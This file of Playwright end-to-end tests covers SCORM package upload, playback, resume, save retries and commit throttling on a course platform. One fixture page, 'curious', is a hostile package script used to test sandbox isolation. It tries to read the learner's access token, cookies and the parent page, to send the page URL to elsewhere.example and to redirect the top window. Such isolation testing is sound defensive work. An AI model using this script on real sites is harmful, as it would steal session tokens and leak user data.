import type { APIRequestContext, Page } from "@playwright/test";
import { readFileSync } from "node:fs";
import { scorm12Package, scorm2004Package } from "../apps/server/test/factories/packages.ts";
import { apiAs, tokenOf, unique } from "./support/api.ts";
import { expect, test } from "./support/journey.ts";

test("a package of another tool is added, played, resumed and completes its lesson", async ({ as, request }) => {
  test.setTimeout(180_000);
  const { workbench, address } = await buildTextLesson(request);

  await test.step("the author uploads it and reads what was found", async () => {
    const page = await as("admin");
    await page.goto(workbench);
    const content = scorm12Package({ title: "Tendu in steps", parts: ["First phrase"] });
    await page
      .getByLabel("Package (SCORM)")
      .setInputFiles({ name: "tendu.zip", mimeType: "application/zip", buffer: content });
    await expect(page.getByText("SCORM 1.2 · tendu.zip")).toBeVisible();
    await expect(page.getByRole("listitem").filter({ hasText: "First phrase" })).toBeVisible();
    await page
      .getByLabel("Another package in its place")
      .setInputFiles({ name: "x.zip", mimeType: "application/zip", buffer: Buffer.from("no") });
    await expect(page.getByText("This file is no whole ZIP archive.")).toBeVisible();
    await expect(page.getByText("SCORM 1.2 · tendu.zip")).toBeVisible();
  });

  const page = await as("learner");
  const part = page.frameLocator('iframe[title="First phrase"]').frameLocator("iframe");

  await test.step("the learner plays half of it", async () => {
    await page.goto(address);
    await expect(page.getByText("Finish the package first.")).toBeVisible();
    await page.getByRole("button", { name: /^Start\s*: First phrase$/ }).click();
    await expect(part.getByText("Step 1 of 3, learner, nothing kept")).toBeVisible();
    await part.getByRole("button", { name: "On" }).click();
    await expect(page.getByText("Saved", { exact: true })).toBeVisible();
    await page.getByRole("button", { name: "Close", exact: true }).click();
    await expect(page.getByText("In progress").first()).toBeVisible();
  });

  await test.step("and goes on after a reload, to the end, which completes the lesson", async () => {
    await page.reload();
    await page.getByRole("button", { name: /^Resume\s*: First phrase$/ }).click();
    await expect(part.getByText("Step 2 of 3, learner, seen up to 2")).toBeVisible();
    await part.getByRole("button", { name: "On" }).click();
    await expect(page.getByText("You finished").first()).toBeVisible();
    await page.getByRole("button", { name: "Close", exact: true }).click();
    await expect(page.getByText("90 %").first()).toBeVisible();
    await expect(page.getByRole("button", { name: /^Open again\s*: First phrase$/ })).toBeVisible();
  });
});

test("SCORM 2004 is played too, and what cannot be saved is sent again", async ({ as, request }) => {
  const { lessonId, address } = await buildTextLesson(request);
  await attach(request, lessonId, scorm2004Package({ parts: ["Arms"] }));
  const page = await as("learner");
  const part = page.frameLocator('iframe[title="Arms"]').frameLocator("iframe");
  await page.goto(address);
  await page.getByRole("button", { name: /^Start\s*: Arms$/ }).click();
  await expect(part.getByText("learner, nothing kept")).toBeVisible();
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await page.reload();
  await page.getByRole("button", { name: /^Resume\s*: Arms$/ }).click();
  await expect(part.getByText("learner, half of it")).toBeVisible();
  await page.route("**/package/1", (route) => route.abort());
  await part.getByRole("button", { name: "On" }).click();
  await expect(page.getByText("Not saved yet. Retrying.")).toBeVisible();
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Certification" }).click();
  const question = page.getByRole("alertdialog", { name: "Leave without saving your changes?" });
  await question.getByRole("button", { name: "Stay" }).click();
  await page.unroute("**/package/1");
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await page.getByRole("button", { name: "Close", exact: true }).click();
  await expect(page.getByText("Passed", { exact: true }).first()).toBeVisible();
});

test("a public package is played over two visits, asks whether to resume, and completes its lesson", async ({
  as,
  request,
}) => {
  const { lessonId, address } = await buildTextLesson(request);
  const golf = new URL("../apps/server/test/fixtures/packages/golf-explained-scorm12.zip", import.meta.url);
  await attach(request, lessonId, readFileSync(golf));
  const page = await as("learner");
  const asked: string[] = [];
  page.on("dialog", (dialog) => {
    asked.push(dialog.message());
    void dialog.accept();
  });
  const part = page.frameLocator('iframe[title="Golf Explained"]').frameLocator("iframe");
  const shown = part.frameLocator("#contentFrame");
  const next = part.locator("#butNext");
  const close = page.getByRole("button", { name: "Close", exact: true });

  await page.goto(address);
  await page.getByRole("button", { name: /^Start\s*: Golf Explained$/ }).click();
  await expect(shown.getByRole("heading", { name: "Play of the game" })).toBeVisible();
  for (const heading of ["Par", "Scoring"]) {
    await next.click();
    await expect(shown.getByRole("heading", { name: heading, exact: true })).toBeVisible();
  }
  await close.click();
  await expect(page.getByText("In progress").first()).toBeVisible();
  expect(asked).toEqual([]);

  await page.reload();
  await page.getByRole("button", { name: /^Resume\s*: Golf Explained$/ }).click();
  await expect(shown.getByRole("heading", { name: "Scoring", exact: true })).toBeVisible();
  expect(asked).toEqual(["Would you like to resume from where you previously left off?"]);
  while (await next.isEnabled()) await next.click();
  await expect(page.getByText("You finished").first()).toBeVisible();
  await close.click();
  await expect(page.getByRole("button", { name: /^Open again\s*: Golf Explained$/ })).toBeVisible();
});

test("a package that commits all the time is sent once a second", async ({ as, request }) => {
  const { lessonId, address } = await buildTextLesson(request);
  await attach(request, lessonId, scorm12Package({ parts: ["Chatty"], page: chatty }));
  const page = await as("learner");
  let reports = 0;
  page.on("request", (sent) => {
    if (sent.method() === "PUT" && sent.url().endsWith("/package/1")) reports += 1;
  });
  await page.goto(address);
  await page.getByRole("button", { name: /^Start\s*: Chatty$/ }).click();
  const inside = page.frameLocator('iframe[title="Chatty"]').frameLocator("iframe");
  await expect(inside.getByText("Committed 500 times")).toBeVisible({ timeout: 30_000 });
  await page.getByRole("button", { name: "Close", exact: true }).click();
  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
  expect(reports).toBeGreaterThan(1);
  expect(reports).toBeLessThan(15);
});

test("a part that only begins and ends, while it is taken away, is complete", async ({ as, request }) => {
  const { lessonId, address } = await buildTextLesson(request);
  const silent = `<p>Look at the arms.</p><script>const api = parent.API_1484_11; api.Initialize(""); addEventListener("unload", () => api.Terminate(""));</script>`;
  await attach(request, lessonId, scorm2004Package({ parts: ["Silent"], page: silent }));
  const page = await as("learner");
  await page.goto(address);
  await page.getByRole("button", { name: /^Start\s*: Silent$/ }).click();
  const inside = page.frameLocator('iframe[title="Silent"]').frameLocator("iframe");
  await expect(inside.getByText("Look at the arms.")).toBeVisible();
  await page.getByRole("button", { name: "Close", exact: true }).click();
  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
});

test("a package reads nothing of the site and leads nowhere else", async ({ browser, request, baseURL }) => {
  const { lessonId, address } = await buildTextLesson(request);
  await attach(request, lessonId, scorm12Package({ parts: ["Curious"], page: curious(baseURL ?? "") }));
  // Its tries are complaints on the console, which journeys otherwise refuse.
  const localStorage = [{ name: "access_token", value: await tokenOf(request, "learner") }];
  const context = await browser.newContext({
    storageState: { cookies: [], origins: [{ origin: baseURL ?? "", localStorage }] },
  });
  const page = await context.newPage();
  const reached: string[] = [];
  await context.route(/elsewhere\.example/, (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await page.goto(address);
  await page.getByRole("button", { name: /^Start\s*: Curious$/ }).click();
  const inside = page.frameLocator('iframe[title="Curious"]').frameLocator("iframe");
  await expect(inside.locator("#found")).toContainText("done", { timeout: 30_000 });
  expect(JSON.parse((await inside.locator("#found").textContent()) ?? "")).toEqual({
    call: "refused",
    ownApi: "refused",
    document: "refused",
    storage: "nothing",
    cookie: "",
    elsewhere: "refused",
    window: "refused",
    worker: "refused",
    end: "done",
  });
  expect(page.url()).toContain(address);
  expect(reached).toEqual([]);
  await spin(page);
  await context.close();
});

/** A part that never ends holds neither the page up nor its button. */
async function spin(page: Page): Promise<void> {
  const inside = page.frameLocator('iframe[title="Curious"]').frameLocator("iframe");
  await inside.getByRole("button", { name: "On" }).click({ noWaitAfter: true });
  await page.getByRole("button", { name: "Close", exact: true }).click();
  await expect(page.getByRole("button", { name: /^Start\s*: Curious$/ })).toBeVisible();
}

const curious = (site: string) => `<!doctype html><html lang="en"><meta charset="utf-8"><title>Part</title><body>
<p id="place"></p><button id="on">On</button><p id="found"></p>
<script>
(async () => {
  const tried = async (name, act) => { try { found[name] = await act(); } catch { found[name] = "refused"; } };
  const found = {};
  await tried("call", async () => (await fetch("${site}/api/me", { credentials: "include" })).text());
  await tried("ownApi", async () => (await fetch("/api/me")).text());
  await tried("document", async () => top.document.title);
  await tried("storage", async () => localStorage.getItem("access_token") ?? "nothing");
  await tried("cookie", async () => document.cookie);
  await tried("elsewhere", async () => { await fetch("https://elsewhere.example/?" + location.href); return "sent"; });
  await tried("window", async () => { const opened = open("https://elsewhere.example/"); return opened === null ? "refused" : "opened"; });
  await tried("worker", async () => { await navigator.serviceWorker.register("shared/part.js"); return "registered"; });
  try { top.location.href = "https://elsewhere.example/"; } catch {}
  const image = new Image(); image.src = "https://elsewhere.example/pixel";
  found.end = "done";
  document.getElementById("found").textContent = JSON.stringify(found);
})();
document.getElementById("on").addEventListener("click", () => setTimeout(() => { for (;;); }, 50));
</script></body></html>`;

/** Commits a hundred times a second for five seconds. */
const chatty = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Part</title><body><p id="said"></p>
<script>
const api = parent.API;
api.LMSInitialize("");
let times = 0;
const timer = setInterval(() => {
  times += 1;
  api.LMSSetValue("cmi.suspend_data", "step " + times);
  api.LMSCommit("");
  if (times < 500) return;
  clearInterval(timer);
  api.LMSSetValue("cmi.core.lesson_status", "completed");
  api.LMSFinish("");
  document.getElementById("said").textContent = "Committed 500 times";
}, 10);
</script></body></html>`;

/** A free course with one text lesson; the sample learner is enrolled. */
async function buildTextLesson(request: APIRequestContext) {
  const call = apiAs(request, await tokenOf(request, "admin"));
  const description = "One sentence of tendus, in the steps of a package.";
  const title = `Tendus in a package ${unique("")}`;
  const course = await call("POST", "/api/courses", { title, description, price: "0", status: "published", hours: 1 });
  const module = await call("POST", "/api/modules", { title: "Barre", description, position: 1, courseId: course.id });
  const lesson = await call("POST", "/api/lessons", {
    title: "Tendu: the sentence",
    description,
    type: "text",
    content: "Read this, then play the package.",
    moduleId: module.id,
  });
  const learner = apiAs(request, await tokenOf(request, "learner"));
  await learner("POST", `/api/courses/${course.id}/enroll`);
  return {
    lessonId: lesson.id,
    address: `/courses/${course.id}/modules/${module.id}/lessons/${lesson.id}`,
    workbench: `/instructor/instructor-module-page?course=${course.id}&module=${module.id}&lesson=${lesson.id}&section=package`,
  };
}

/** As the workbench does it. */
async function attach(request: APIRequestContext, lessonId: number, content: Buffer): Promise<void> {
  const token = await tokenOf(request, "admin");
  const call = apiAs(request, token);
  const { id } = await call("POST", "/api/uploads", { bytes: content.length, purpose: "package" });
  const sent = await request.patch(`/api/uploads/${id}`, {
    headers: {
      authorization: `Bearer ${token}`,
      "upload-offset": "0",
      "content-type": "application/offset+octet-stream",
    },
    data: content,
  });
  if (!sent.ok()) throw new Error(await sent.text());
  await call("PUT", `/api/lessons/${lessonId}/attached-package`, { upload_id: id, file_name: "package.zip" });
}
